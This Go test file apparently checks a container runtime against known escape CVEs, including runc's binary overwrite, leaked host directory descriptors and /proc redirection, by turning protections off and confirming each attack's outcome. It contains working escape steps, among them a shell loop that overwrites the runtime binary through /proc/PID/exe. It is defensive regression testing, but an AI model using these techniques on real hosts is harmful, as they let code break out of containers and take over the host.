package escape

import (
	"crypto/sha256"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"

	"github.com/gantryd/gantry/plugins/exec-native/weak"
	"github.com/opencontainers/runtime-spec/specs-go"
)

// processClasses are those about what a process of ours carries into a container.
func processClasses() []class {
	return []class{
		{
			name: "CVE-2016-9962", attack: "the root of a user namespace looks through a process that joins it, before that runs its program",
			shim: "WEAKEN_DUMPABLE", try: lookThroughJoiner,
		},
		{
			name: "CVE-2019-5736", attack: "a program keeps the runtime's own file open and writes to it once it is no longer running",
			off: []weak.Protection{weak.Seal}, try: overwriteRuntime,
		},
		{
			name: "CVE-2019-16884", attack: "a volume over /proc takes what the runtime writes to protect the container",
			shim: "WEAKEN_PROC", try: volumeOverProc,
		},
		{
			name: "CVE-2023-28642", attack: "/proc of the image is a link to files that take what the runtime writes",
			shim: "WEAKEN_PROC", try: linkForProc,
		},
		{
			name: "CVE-2025-52881", attack: "a link in a made-up /proc leads what the runtime writes to another file of the real one",
			shim: "WEAKEN_PROC", try: redirectWrite,
		},
		{
			name: "CVE-2024-21626 descriptor", attack: "a directory of the host's that somebody left open is open in the program",
			shim: "WEAKEN_SWEEP", try: leakedDescriptor,
		},
		{
			name: "CVE-2024-21626 directory", attack: "the working directory is named by a descriptor of a directory of the host's",
			shim: "WEAKEN_CWD", try: descriptorAsDirectory,
		},
		{
			name: "containerd CVE-2020-15257", attack: "a container with the host's network opens another one's start gate, which is an abstract socket",
			off: []weak.Protection{weak.PathSocket}, try: knock,
		},
	}
}

func lookThroughJoiner(w *world) bool {
	all := []string{"CAP_SYS_PTRACE", "CAP_SYS_ADMIN", "CAP_DAC_OVERRIDE", "CAP_DAC_READ_SEARCH", "CAP_SETUID", "CAP_SETGID"}
	a := w.bundle("sleep", "300")
	setCaps(a.Spec, all...)
	a.Linux.Namespaces = append(a.Linux.Namespaces, specs.LinuxNamespace{Type: specs.UserNamespace})
	a.Linux.UIDMappings = []specs.LinuxIDMapping{{ContainerID: 0, HostID: 100000, Size: 65536}}
	a.Linux.GIDMappings = a.Linux.UIDMappings
	a.begin()
	b := w.bundle("sh", "-c", "sleep 300")
	b.join(specs.UserNamespace, "/proc/"+a.pid()+"/ns/user")
	b.join(specs.PIDNamespace, "/proc/"+a.pid()+"/ns/pid")
	w.write(filepath.Join(b.root, "secret"), secret)
	w.must(os.Chown(filepath.Join(b.root, "secret"), 100000, 100000))
	if r := b.make("create"); r.code != 0 {
		w.t.Fatalf("create in the other's namespaces: %s", r.out)
	}
	r := a.exec("for p in /proc/[0-9]*; do echo $p $(cat $p/comm); cat $p/root/secret; done")
	if !strings.Contains(r.out, "gantry-init") {
		w.t.Fatalf("the attacker does not see the joiner: %s", r.out)
	}
	w.ok("start", b.id)
	return strings.Contains(r.out, secret)
}

func overwriteRuntime(w *world) bool {
	shim := filepath.Join(w.bin, "gantry-shim")
	before := sumOf(w, shim)
	a := w.bundle("sleep", "300")
	setCaps(a.Spec, append(defaultCaps(), "CAP_SYS_PTRACE")...)
	a.begin()
	b := w.bundle("sleep", "300")
	b.join(specs.PIDNamespace, "/proc/"+a.pid()+"/ns/pid")
	if r := b.make("create"); r.code != 0 {
		w.t.Fatalf("create: %s", r.out)
	}
	w.ok("exec", "--detach", a.id, "sh", "-c", `
for p in /proc/[0-9]*; do
	if [ "$(cat $p/comm)" = gantry-init ]; then exec 3<$p/exe; break; fi
done
head -c 4 <&3 >/held
touch /ready
while [ ! -e /go ]; do sleep 0.02; done
(echo owned >/proc/self/fd/3) 2>/errors
touch /done`)
	in := func(name string) string { return filepath.Join(a.root, name) }
	exists := func(name string) func() bool {
		return func() bool { _, err := os.Stat(in(name)); return err == nil }
	}
	w.await("the attacker holds the file", exists("ready"))
	if !w.has(in("held"), "ELF") {
		w.t.Fatal("the attacker did not get the runtime's file")
	}
	w.ok("start", b.id)
	w.write(in("go"), "")
	w.await("the attacker has written", exists("done"))
	after := sumOf(w, shim)
	if after != before { // the directory serves other tests
		w.must(os.WriteFile(shim, before.text(), 0o755))
	}
	return after != before
}

// content is a file's bytes with their sum.
type content struct {
	sum   [sha256.Size]byte
	bytes string
}

func (c content) text() []byte { return []byte(c.bytes) }

func sumOf(w *world, name string) content {
	b, err := os.ReadFile(name)
	w.must(err)
	return content{sha256.Sum256(b), string(b)}
}

// portStart is a setting of a network namespace that keeps something out.
const portStart = "net/ipv4/ip_unprivileged_port_start"

func volumeOverProc(w *world) bool {
	b := w.bundle("sleep", "300")
	fake := filepath.Join(w.path("volume"), "sys", portStart)
	w.write(fake, "0\n")
	b.Mounts = append(b.Mounts, specs.Mount{Destination: "/proc", Type: "bind", Source: w.path("volume"), Options: []string{"rbind", "rw"}})
	b.Linux.MaskedPaths, b.Linux.ReadonlyPaths = nil, nil
	b.Linux.Sysctl = map[string]string{"net.ipv4.ip_unprivileged_port_start": "2000"}
	b.begin()
	return inNetworkOf(w, b) != "2000"
}

// inNetworkOf reads the setting as the kernel has it for a container.
func inNetworkOf(w *world, b *bundle) string {
	out, err := exec.Command("nsenter", "-t", b.pid(), "-n", "cat", "/proc/sys/"+portStart).CombinedOutput()
	if err != nil {
		w.t.Fatalf("nsenter: %v: %s", err, out)
	}
	return strings.TrimSpace(string(out))
}

func linkForProc(w *world) bool {
	b := w.bundle("sleep", "300")
	w.must(os.Remove(filepath.Join(b.root, "proc")))
	w.must(os.Symlink("/fake", filepath.Join(b.root, "proc")))
	w.write(filepath.Join(b.root, "fake/sys", portStart), "0\n")
	b.drop("/proc")
	b.Linux.MaskedPaths, b.Linux.ReadonlyPaths = nil, nil
	b.Linux.Sysctl = map[string]string{"net.ipv4.ip_unprivileged_port_start": "2000"}
	b.begin()
	return inNetworkOf(w, b) != "2000"
}

func redirectWrite(w *world) bool {
	b := w.bundle("sh", "-c", "echo \"<$(cat /real/sys/kernel/domainname)>\"")
	b.drop("/proc")
	b.mount(specs.Mount{Destination: "/real", Type: "proc", Source: "proc"})
	link := filepath.Join(b.root, "proc/sys", portStart)
	w.must(os.MkdirAll(filepath.Dir(link), 0o755))
	w.must(os.Symlink("/real/sys/kernel/domainname", link))
	b.Linux.MaskedPaths, b.Linux.ReadonlyPaths = nil, nil
	b.Linux.Sysctl = map[string]string{"net.ipv4.ip_unprivileged_port_start": "2000"}
	r := b.make("run")
	if !strings.Contains(r.out, "<") {
		w.t.Fatalf("the program did not run: %s", r.out)
	}
	return strings.Contains(r.out, "<2000>")
}

// open is a descriptor of the directory that stands for the host's, as the nth
// from 3 on.
func (w *world) open(nth int) []*os.File {
	dir, err := os.Open(w.path("host"))
	w.must(err)
	null, err := os.Open("/dev/null")
	w.must(err)
	w.t.Cleanup(func() { dir.Close(); null.Close() })
	var all []*os.File
	for range nth {
		all = append(all, null)
	}
	return append(all, dir)
}

func leakedDescriptor(w *world) bool {
	const look = "for f in /proc/self/fd/* /proc/1/fd/*; do cat $f/mark; done"
	b := w.bundle("sh", "-c", look)
	b.save()
	first := w.oci(w.open(4), b.args("run")...).out
	c := w.bundle("sleep", "300").begin()
	later := w.oci(w.open(4), "exec", c.id, "sh", "-c", look).out
	got := strings.Contains(first, secret)
	if got != strings.Contains(later, secret) {
		w.t.Errorf("run and exec differ: %s\n%s", first, later)
	}
	return got || strings.Contains(later, secret)
}

func descriptorAsDirectory(w *world) bool {
	c := w.bundle("sleep", "300").begin()
	for fd := 0; fd < 40; fd++ {
		at := "/proc/self/fd/" + strconv.Itoa(fd)
		if strings.Contains(w.oci(w.open(0), "exec", "--preserve-fds", "1", "--cwd", at, c.id, "cat", "mark").out, secret) {
			return true
		}
	}
	return false
}

func knock(w *world) bool {
	b := w.bundle("touch", "/started")
	if r := b.make("create"); r.code != 0 {
		w.t.Fatalf("create: %s", r.out)
	}
	a := w.bundle("/knock", b.id)
	shop.command(w.t, "gcc", "-static", "-O2", "-Wall", "-o", filepath.Join(a.root, "knock"), "test/escape/testdata/knock.c")
	a.Linux.Namespaces = slices.DeleteFunc(a.Linux.Namespaces, func(n specs.LinuxNamespace) bool { return n.Type == specs.NetworkNamespace })
	a.drop("/sys")
	r := a.make("run")
	if !strings.Contains(r.out, "tried") {
		w.t.Fatalf("the attacker did not get to try: %d: %s", r.code, r.out)
	}
	started := func() bool { _, err := os.Stat(filepath.Join(b.root, "started")); return err == nil }
	if strings.Contains(r.out, "said go") {
		w.await("the program has been started", started)
	}
	return started()
}
